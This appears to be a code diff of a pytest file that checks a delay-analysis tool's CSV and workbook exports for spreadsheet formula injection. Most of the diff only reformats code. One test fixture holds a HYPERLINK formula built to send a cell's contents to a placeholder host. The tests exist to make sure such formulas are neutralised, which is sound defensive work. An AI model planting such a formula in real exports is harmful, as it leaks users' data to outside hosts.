@@ -26,13 +26,13 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from click.testing import CliRunner
-
 from casewriter import write_case
+from click.testing import CliRunner
+from test_report import ASBUILT, LINKS
+
 from delay.cli import cli
 from delay.output import copy_csv, csv_safe, csv_text, neutralise
 from reports.tables import canonical_csv
-from test_report import ASBUILT, LINKS
 
 HOSTILE = {
     "A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")',
@@ -51,15 +51,35 @@ ACTIVITIES = [
     {"id": "D", "name": HOSTILE["D"], "duration": 1, "wbs": "2", "note": ""},
     {"id": "END", "name": "Completion", "duration": 0, "kind": "finish_milestone", "wbs": "2", "note": ""},
 ]
-CASE_LINKS = LINKS[:2] + [{"pred": "B", "succ": "END"}, {"pred": "A", "succ": "C"}, {"pred": "C", "succ": "END"},
-                          {"pred": "A", "succ": "D"}, {"pred": "D", "succ": "END"}]
-UPDATE = [dict(ACTIVITIES[0], actual_start="2025-01-06"),
-          dict(ACTIVITIES[1], actual_start="2025-01-06", actual_finish="2025-01-10"),
-          *ACTIVITIES[2:]]
-EVENTS = [{"id": "E1", "title": EVENT_TITLE, "party": "employer", "start": "2025-01-13", "finish": "2025-01-22",
-           "activities": "B", "impact": "extend", "days": 3}]
-BUILT = ASBUILT[:3] + [{"id": "C", "actual_start": "2025-01-13", "actual_finish": "2025-01-14"},
-                       {"id": "D", "actual_start": "2025-01-13", "actual_finish": "2025-01-13"}, ASBUILT[3]]
+CASE_LINKS = LINKS[:2] + [
+    {"pred": "B", "succ": "END"},
+    {"pred": "A", "succ": "C"},
+    {"pred": "C", "succ": "END"},
+    {"pred": "A", "succ": "D"},
+    {"pred": "D", "succ": "END"},
+]
+UPDATE = [
+    dict(ACTIVITIES[0], actual_start="2025-01-06"),
+    dict(ACTIVITIES[1], actual_start="2025-01-06", actual_finish="2025-01-10"),
+    *ACTIVITIES[2:],
+]
+EVENTS = [
+    {
+        "id": "E1",
+        "title": EVENT_TITLE,
+        "party": "employer",
+        "start": "2025-01-13",
+        "finish": "2025-01-22",
+        "activities": "B",
+        "impact": "extend",
+        "days": 3,
+    }
+]
+BUILT = ASBUILT[:3] + [
+    {"id": "C", "actual_start": "2025-01-13", "actual_finish": "2025-01-14"},
+    {"id": "D", "actual_start": "2025-01-13", "actual_finish": "2025-01-13"},
+    ASBUILT[3],
+]
 
 #: A cell a spreadsheet would run (OWASP's list), unless it is a plain decimal number.
 DANGEROUS = re.compile(r"[=+\-@\t\r]")
@@ -67,11 +87,16 @@ PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")
 
 
 def hostile_case(root: Path) -> Path:
-    return write_case(root, activities=ACTIVITIES, links=CASE_LINKS, completion="2025-01-15",
-                      schedule={"float_to": "contract_completion"},
-                      commercial={"currency": "EUR", "prolongation_cost_per_day": 100},
-                      snapshots={"u01": {"label": "Update 01", "data_date": "2025-01-13", "activities": UPDATE}},
-                      files={"events.csv": EVENTS, "asbuilt.csv": BUILT})
+    return write_case(
+        root,
+        activities=ACTIVITIES,
+        links=CASE_LINKS,
+        completion="2025-01-15",
+        schedule={"float_to": "contract_completion"},
+        commercial={"currency": "EUR", "prolongation_cost_per_day": 100},
+        snapshots={"u01": {"label": "Update 01", "data_date": "2025-01-13", "activities": UPDATE}},
+        files={"events.csv": EVENTS, "asbuilt.csv": BUILT},
+    )
 
 
 def cells(path: Path) -> list[list[str]]:
@@ -80,8 +105,7 @@ def cells(path: Path) -> list[list[str]]:
 
 
 def unsafe(rows: list[list[str]]) -> list[str]:
-    return [cell for row in rows for cell in row
-            if cell and DANGEROUS.match(cell[0]) and not PLAIN_NUMBER.match(cell)]
+    return [cell for row in rows for cell in row if cell and DANGEROUS.match(cell[0]) and not PLAIN_NUMBER.match(cell)]
 
 
 def run(*args):
@@ -89,24 +113,51 @@ def run(*args):
 
 
 # -- the rule --------------------------------------------------------------------------------------
-@pytest.mark.parametrize("text, expected", [
-    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tleading tab", "'\tleading tab"), ("\rleading return", "'\rleading return"),
-    ("-", "'-"), ("- a bullet", "'- a bullet"), ("+", "'+"),
-    # plain decimal numbers as text: a spreadsheet reads them as numbers and runs nothing
-    ("-3", "-3"), ("+2.5", "+2.5"), ("-1e3", "-1e3"), ("-.5", "-.5"), ("-0", "-0"),
-    # not plain numbers
-    ("-1,5", "'-1,5"), ("-0x1F", "'-0x1F"), ("-inf", "'-inf"), ("-3 days", "'-3 days"),
-    # harmless starts
-    ("Dig", "Dig"), ("", ""), (" =1+1", " =1+1"), ("1-2", "1-2"), ("'=already", "'=already"),
-])
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tleading tab", "'\tleading tab"),
+        ("\rleading return", "'\rleading return"),
+        ("-", "'-"),
+        ("- a bullet", "'- a bullet"),
+        ("+", "'+"),
+        # plain decimal numbers as text: a spreadsheet reads them as numbers and runs nothing
+        ("-3", "-3"),
+        ("+2.5", "+2.5"),
+        ("-1e3", "-1e3"),
+        ("-.5", "-.5"),
+        ("-0", "-0"),
+        # not plain numbers
+        ("-1,5", "'-1,5"),
+        ("-0x1F", "'-0x1F"),
+        ("-inf", "'-inf"),
+        ("-3 days", "'-3 days"),
+        # harmless starts
+        ("Dig", "Dig"),
+        ("", ""),
+        (" =1+1", " =1+1"),
+        ("1-2", "1-2"),
+        ("'=already", "'=already"),
+    ],
+)
 def test_neutralise_follows_the_owasp_prefix_rule(text, expected):
     assert neutralise(text) == expected
 
 
 def test_numbers_stay_numbers_and_text_is_neutralised_in_frames():
-    frame = pd.DataFrame({"total_float": [-2, 0, 3], "cost": [-1.5, 2.0, float("nan")],
-                          "name": ["=x", "-2", None], "mixed": [-4, "=y", 1.5], "=header": ["a", "b", "c"]})
+    frame = pd.DataFrame(
+        {
+            "total_float": [-2, 0, 3],
+            "cost": [-1.5, 2.0, float("nan")],
+            "name": ["=x", "-2", None],
+            "mixed": [-4, "=y", 1.5],
+            "=header": ["a", "b", "c"],
+        }
+    )
     text = csv_text(frame)
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0] == ["total_float", "cost", "name", "mixed", "'=header"]
@@ -123,8 +174,8 @@ def test_a_case_file_copied_among_the_outputs_is_neutralised(tmp_path):
     source = tmp_path / "elements.csv"
     source.write_text('id,name,x\nW1,"=HYPERLINK(""x"")",-1.25\n', encoding="utf-8")
     copy_csv(source, tmp_path / "out.csv")
-    assert cells(tmp_path / "out.csv") == [["id", "name", "x"], ["W1", "'=HYPERLINK(\"x\")", "-1.25"]]
-    assert source.read_text(encoding="utf-8").startswith("id,name,x\nW1,\"=HYPERLINK"), "the input is unchanged"
+    assert cells(tmp_path / "out.csv") == [["id", "name", "x"], ["W1", '\'=HYPERLINK("x")', "-1.25"]]
+    assert source.read_text(encoding="utf-8").startswith('id,name,x\nW1,"=HYPERLINK'), "the input is unchanged"
 
 
 # -- every CSV of delay demo and delay report --------------------------------------------------------
@@ -147,8 +198,12 @@ def test_no_csv_of_demo_or_report_holds_a_cell_a_spreadsheet_would_run(outputs):
     # the hostile text is there, neutralised, not dropped
     for text in [*HOSTILE.values(), EVENT_TITLE]:
         assert "'" + text in every, text
-    assert any("'" + EVENT_TITLE in cell for p in (outputs / "report" / "tables").glob("*.csv")
-               for row in cells(p) for cell in row)
+    assert any(
+        "'" + EVENT_TITLE in cell
+        for p in (outputs / "report" / "tables").glob("*.csv")
+        for row in cells(p)
+        for cell in row
+    )
 
 
 def test_negative_floats_stay_plain_numbers(outputs):
@@ -156,8 +211,12 @@ def test_negative_floats_stay_plain_numbers(outputs):
     header, body = rows[0], rows[1:]
     floats = {row[header.index("activity")]: row[header.index("total_float")] for row in body}
     assert floats["A"] == "-2" and floats["B"] == "-2"
-    assert not any(cell.startswith("'-") and PLAIN_NUMBER.match(cell[1:]) for p in (outputs / "report").rglob("*.csv")
-                   for row in cells(p) for cell in row), "a number never gets the apostrophe"
+    assert not any(
+        cell.startswith("'-") and PLAIN_NUMBER.match(cell[1:])
+        for p in (outputs / "report").rglob("*.csv")
+        for row in cells(p)
+        for cell in row
+    ), "a number never gets the apostrophe"
 
 
 def test_the_workbook_keeps_the_text_as_typed_strings(outputs):
@@ -192,8 +251,9 @@ def test_import_ifc_writes_the_models_names_into_the_case_as_they_are(tmp_path):
     from test_ifc_import import ModelBuilder, placement
 
     builder = ModelBuilder()
-    builder.element("IfcWall", HOSTILE["A"], matrix=placement(0, 0, 0), representation=builder.wall(6.0, 3.0, 0.2),
-                    code="1")
+    builder.element(
+        "IfcWall", HOSTILE["A"], matrix=placement(0, 0, 0), representation=builder.wall(6.0, 3.0, 0.2), code="1"
+    )
     model = tmp_path / "model.ifc"
     builder.model.write(str(model))
     case = hostile_case(tmp_path / "case")
